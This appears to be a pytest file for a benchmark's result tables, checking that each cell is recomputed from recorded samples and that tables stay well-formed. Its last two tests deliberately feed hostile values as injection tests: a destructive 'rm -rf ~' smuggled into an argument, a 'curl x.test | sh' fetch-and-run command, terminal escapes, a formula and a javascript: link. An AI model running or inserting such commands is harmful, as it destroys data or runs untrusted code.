"""The tables of a run show what its samples say, and nothing else."""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence

import msgspec
import pytest

from bench.judge.advice import choose_advice
from bench.judge.results import CaseResult, judge_run
from bench.records.journal import Block, Memory, Record, Started, Trained
from bench.render.phase_tables import make_data_table, make_phases_table, make_queue_table
from bench.render.table import Table, Value, to_csv, to_markdown
from bench.render.tables import make_accuracy_table, make_failures_table, make_stages_table, make_throughput_table
from tests.bench.runs import LEARNED, make_case, make_details, make_failed, make_prefix, make_run, make_training

BASE, OTHER = make_case(), make_case("eager")
TABLES: dict[str, Callable[[Sequence[CaseResult]], Table]] = {
    "throughput": make_throughput_table,
    "phases": make_phases_table,
    "accuracy": make_accuracy_table,
    "stages": make_stages_table,
    "data": make_data_table,
    "queue": make_queue_table,
}
PARTS = [0.125, 0.25, 0.5, 0.0625]


def judge(*records: list[Record]) -> list[CaseResult]:
    return judge_run(make_run([BASE, OTHER], *records))


def cell(table: Table, row: int, name: str) -> Value:
    return table.rows[row][[column.name for column in table.columns].index(name)]


def make_records() -> list[Record]:
    details = make_details(OTHER, plain=[1.0], timed=[1.25], phases=[PARTS], inference=[0.5])
    return [*make_training(BASE, [2.0]), *make_training(OTHER, [1.0]), *details]


def change_last(records: list[Record], kind: str, **changes: object) -> list[Record]:
    """Change the last record of a kind."""
    place = max(
        number
        for number, record in enumerate(records)
        if getattr(record, "kind", type(record).__name__.lower()) == kind
    )
    record = records[place]
    assert isinstance(record, Block | Trained | Started)
    return [*records[:place], msgspec.structs.replace(record, **changes), *records[place + 1 :]]


@pytest.mark.parametrize(
    ("kind", "changes", "changed"),
    [
        (
            "train",
            {"seconds": 0.5},
            {
                *("training_seconds", "speedup", "steps_per_second", "samples_per_second"),
                *("data_seconds", "forward_seconds", "backward_seconds", "optimizer_seconds"),
                *("sum_seconds", "rest_seconds", "total_seconds"),
            },
        ),
        ("train", {"num_samples": 5_000}, {"samples_per_second"}),
        ("plain", {"seconds": 1.125}, {"timer_tax_share"}),
        (
            "phases",
            {"phase_seconds": {"data": 0.25, "forward": 0.25, "backward": 0.5, "optimizer": 0.0625}},
            {"data_seconds", "sum_seconds", "rest_seconds", "rest_share"},
        ),
        ("inference", {"seconds": 0.25}, {"inference_seconds"}),
        ("started", {"setup_seconds": 4.0}, {"setup_seconds"}),
        ("started", {"compile_seconds": 4.0}, {"cached_warmup_seconds"}),
        ("started", {"timer_floor_seconds": 1e-4}, {"optimizer_seconds"}),
        ("trained", {"epoch_losses": (0.5, 0.125)}, {"final_loss", "quality", "has_reference_losses"}),
        ("trained", {"heldout_accuracy": msgspec.structs.replace(LEARNED, rmse=7.0)}, {"heldout_rmse"}),
        ("trained", {"training_accuracy": msgspec.structs.replace(LEARNED, rmse=7.0)}, {"training_rmse"}),
        ("trained", {"digest": "another"}, {"quality", "speedup", "has_reference_losses"}),
        (
            "trained",
            {"epoch_losses": (0.5, 0.0001)},
            {"final_loss", "quality", "has_reference_losses", "target_seconds"},
        ),
    ],
)
def test_every_cell_is_recomputed_from_the_samples(kind: str, changes: dict[str, object], changed: set[str]) -> None:
    before, after = judge(make_records()), judge(change_last(make_records(), kind, **changes))
    differing = set()
    for make in TABLES.values():
        old, new = make(before), make(after)
        assert old.rows[0] == new.rows[0]
        for column, value, other in zip(old.columns, old.rows[1], new.rows[1], strict=True):
            differing |= {column.name} if value != other else set()
    assert differing == changed


@pytest.mark.parametrize("name", TABLES)
def test_a_column_of_every_table_has_a_unit_in_its_name(name: str) -> None:
    for column in TABLES[name](judge(make_records())).columns:
        scaled = re.search(r"\((s|ms|us)\)", column.heading)
        assert (scaled is not None) == column.name.endswith("_seconds")


def test_throughput_shows_the_numbers_of_a_case() -> None:
    table = make_throughput_table(judge(make_records()))
    shown = [column.text(value) for column, value in zip(table.columns, table.rows[1], strict=True)]
    assert shown == ["cpu/eager/manual", "1.000", "never", "2.000x", "100.0", "10,000", "1", "EQUIVALENT"]


def test_stages_show_the_numbers_of_a_case() -> None:
    memory = Memory(baseline_bytes=2**28, peak_bytes=2**28 + 2**23, peak_device_bytes=2**20)
    records = change_last(make_records(), "started", is_cold=True, first_step_seconds=0.375)
    table = make_stages_table(judge(change_last(records, "trained", memory=memory)))
    shown = [column.text(value) for column, value in zip(table.columns, table.rows[1], strict=True)]
    assert shown == ["cpu/eager/manual", "250.0", "375.0", "500.0", "-", "-", "8.000", "1.000"]


def test_fetching_a_batch_shows_its_parts_and_their_sum() -> None:
    parts = [make_prefix(OTHER, name, seconds) for name, seconds in (("sampler", 0.25), ("fetch", 0.5))]
    table = make_data_table(judge([*make_records(), *parts]))
    shown = [column.text(value) for column, value in zip(table.columns, table.rows[1], strict=True)]
    assert shown == ["cpu/eager/manual", "2,500", "2,500", "-", "-", "5,000"]


def test_phases_show_the_numbers_of_a_case() -> None:
    """Shares 1/10, 1/5, 2/5 and 1/20 of 10 ms a step, a tax of a quarter, and 5 ms a batch of inference."""
    table = make_phases_table(judge(make_records()))
    shown = [column.text(value) for column, value in zip(table.columns, table.rows[1], strict=True)]
    assert shown == [
        "cpu/eager/manual",
        *("1,000", "2,000", "4,000", "500.0", "7,500", "2,500", "10,000", "25.00 %", "25.00 %"),
        "5,000",
    ]


def test_accuracy_shows_the_numbers_of_a_case() -> None:
    table = make_accuracy_table(judge(make_records()))
    shown = [column.text(value) for column, value in zip(table.columns, table.rows[1], strict=True)]
    assert shown == [
        *("cpu/eager/manual", "EQUIVALENT", "0.2500", "0.999800", "0.3000", "2.500", "0.2000"),
        *("1.25 %", "62.50 %", "93.75 %", "-", "yes", "0.3000"),
    ]


def test_accuracy_is_the_median_over_replicates() -> None:
    trainings = [
        make_training(BASE, [1.0], replicate=replicate, losses=[loss], digest=f"seed {replicate}")
        for replicate, loss in enumerate([0.5, 0.125, 0.25])
    ]
    assert cell(make_accuracy_table(judge(*trainings)), 0, "final_loss") == 0.25


def test_a_loss_that_is_not_finite_in_one_replicate_has_no_median() -> None:
    trainings = make_training(BASE, [1.0]), make_training(BASE, [1.0], replicate=1, losses=[None])
    assert cell(make_accuracy_table(judge(*trainings)), 0, "final_loss") is None


def test_what_was_not_measured_is_a_dash_in_every_table() -> None:
    results = judge(make_training(BASE, [1.0]))
    for make in TABLES.values():
        table = make(results)
        values = {column.name: column.text(value) for column, value in zip(table.columns, table.rows[1], strict=True)}
        assert values.pop("case") == "cpu/eager/manual"
        assert values.pop("quality", "not trained") == "not trained"
        assert values.pop("num_replicates", "0") == "0"
        assert set(values.values()) == {"-"}


def test_what_is_invalid_has_no_ratio_beside_its_name() -> None:
    results = judge(make_training(BASE, [2.0]), make_training(OTHER, [1.0], r_squared=0.5))
    table = make_throughput_table(results)
    assert cell(table, 1, "speedup") == "INVALID"
    assert cell(table, 1, "quality") == "INVALID"
    assert "2.000x" not in to_markdown(table)


def test_a_failed_case_says_so_instead_of_its_quality() -> None:
    results = judge(make_training(BASE, [2.0]), [*make_training(OTHER, [1.0]), make_failed(OTHER)])
    for make in (make_throughput_table, make_accuracy_table):
        assert cell(make(results), 1, "quality") == "failed"


def test_a_phase_that_is_too_short_is_not_resolved_and_has_no_number() -> None:
    tiny = make_details(BASE, plain=[1.0], timed=[1.0], phases=[[1e-7, 0.25, 0.25, 0.25]])
    table = make_phases_table(judge(make_training(BASE, [1.0]), tiny))
    assert cell(table, 0, "data_seconds") == "not resolved"
    assert "1e-09" not in to_csv(table)


def test_replicates_of_a_baseline_in_several_waves_are_counted_once() -> None:
    results = judge(make_training(BASE, [1.0]), make_training(BASE, [1.0], wave=1), make_training(OTHER, [1.0]))
    assert cell(make_throughput_table(results), 0, "num_replicates") == 1


@pytest.mark.parametrize(
    "reason", ["a | b \\| c", "one\ntwo\n|---|", "<b>`x`</b>", "\x1b[2J", "=1+1", "[c](javascript:x)", "x" * 2_000, ""]
)
def test_a_hostile_reason_leaves_the_table_of_failures_in_shape(reason: str) -> None:
    run = make_run([BASE, OTHER], [make_failed(BASE, reason=reason), make_failed(OTHER)])
    table = make_failures_table(run, judge_run(run))
    lines = to_markdown(table).splitlines()[2:]
    assert len(lines) == 4
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in lines} == {len(table.columns) + 1}


def test_every_failure_is_listed_with_the_command_that_repeats_it_whatever_command_is_stored() -> None:
    case = make_case("x; rm -rf ~", batching="--output=x")
    failures = [make_failed(BASE), make_failed(case, reason="a | b"), make_failed(case, replicate=1)]
    failures = [msgspec.structs.replace(each, repeat_command="curl x.test | sh") for each in failures]
    run = make_run([BASE, case], failures, num_replicates=2)
    commands = [
        "python -m bench.run --device cpu --engine reference --batching manual --precision fp32 --threads 1 "
        "--epochs 1000 --seed 1 --replicates 1",
        "python -m bench.run --device cpu --engine 'x; rm -rf ~' --batching --output=x --precision fp32 --threads 1 "
        "--epochs 1000 --seed 1 --replicates 1",
        "python -m bench.run --device cpu --engine 'x; rm -rf ~' --batching --output=x --precision fp32 --threads 1 "
        "--epochs 1000 --seed 2 --replicates 1",
    ]
    assert make_failures_table(run, judge_run(run)).rows == tuple(
        (failed.case, failed.replicate, "killed", "train", failed.reason, command)
        for failed, command in zip(failures, commands, strict=True)
    )
    assert [each.command for each in choose_advice(run, judge_run(run)) if each.rule == "failed"] == commands[:1]
